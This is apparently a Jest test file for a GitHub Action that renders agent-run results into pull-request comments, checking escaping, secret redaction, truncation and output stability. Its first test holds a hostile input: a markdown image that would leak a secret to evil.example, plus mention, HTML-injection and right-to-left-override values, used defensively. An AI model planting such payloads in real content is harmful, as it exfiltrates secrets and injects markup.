import { describe, expect, it } from '@jest/globals'
import {
  COMMENT_LIMIT_BYTES,
  renderFinalComment,
  renderProgressComment
} from '../../../src/action/comment/comment-body.js'
import { ownMark } from '../../../src/action/github/own-marker.js'
import { createRedactor } from '../../../src/session/redaction/redact.js'
import { aRecord, aRun } from '../../report/sample-record.js'

const MARK = ownMark('comment', 'agents')
const SECRET = 'correct_horse*battery|staple'
const setting = {
  marks: MARK,
  runUrl: 'https://github.com/octo/calculator/actions/runs/42',
  redact: (text: string) => createRedactor([SECRET]).redact(text)
}

describe('the text of the comment', () => {
  const hostile = `![x](https://evil.example/${SECRET}) @octo/team fixes #12 <!-- </details> <img src=x> \`\`\` | \u202e[a](b)`

  it("escapes agents' text, mentions nobody and contains no secret", () => {
    const run = aRun({
      task: hostile,
      agent: hostile,
      outcome: 'failed',
      error: `${SECRET}\n${hostile}`,
      exitCode: 1
    })
    const record = aRecord({
      conclusion: 'failure',
      error: hostile,
      results: [run],
      tickets: [{ type: 'bug', title: hostile, agent: hostile }]
    })
    for (const text of [renderFinalComment(record, setting), renderProgressComment(record, setting)]) {
      const shown = text.slice(MARK.length)
      expect(shown).not.toMatch(
        /correct_?horse|(?<!\\)!\[|@octo|#12|<!--|<img|<\/details>|\u202e|https:\/\/evil/
      )
    }
  })

  it('says how the session ended, with every run and the way to the rest', () => {
    const failed = aRun({
      id: '02',
      agent: 'QA',
      outcome: 'timed-out',
      error: 'Took too long.',
      exitCode: null
    })
    const text = renderFinalComment(
      aRecord({ conclusion: 'failure', error: 'One failed.', results: [aRun(), failed] }),
      setting
    )
    expect(text.startsWith(MARK)).toBe(true)
    expect(text).toMatch(
      /### mpm-orchestrator: failure[^]*One failed\.[^]*- \[x\] Engineer: [^]*- \[ \] QA: .*: \*\*timed-out\*\* \([^]*Took too long\.[^]*\| 02 \| QA \|[^]*actions\/runs\/42/
    )
  })

  it('shows what was recorded before a session was killed', () => {
    const cut = aRun({ state: 'running', outcome: null })
    const text = renderFinalComment(aRecord({ conclusion: null, results: [cut] }), setting)
    expect(text).toMatch(/interrupted[^]*- \[ \] Engineer: .*: \*\*cut off while running\*\*/)
  })

  it('is cut below the limit of GitHub', () => {
    const results = Array.from({ length: 256 }, (_, index) =>
      aRun({
        id: String(index),
        task: '\\*'.repeat(500),
        outcome: 'failed',
        error: `${index}${'<&>'.repeat(2000)}`
      })
    )
    const text = renderFinalComment(
      aRecord({ conclusion: 'failure', error: '&'.repeat(9000), results }),
      setting
    )
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(COMMENT_LIMIT_BYTES)
    expect(text).toContain('The rest does not fit into a comment')
  })

  it('changes only when something happened', () => {
    const at = (executionSeconds: number) =>
      renderProgressComment(
        aRecord({ executionSeconds, results: [aRun({ state: 'running', outcome: null, executionSeconds })] }),
        setting
      )
    expect(at(1)).toBe(at(50))
  })
})
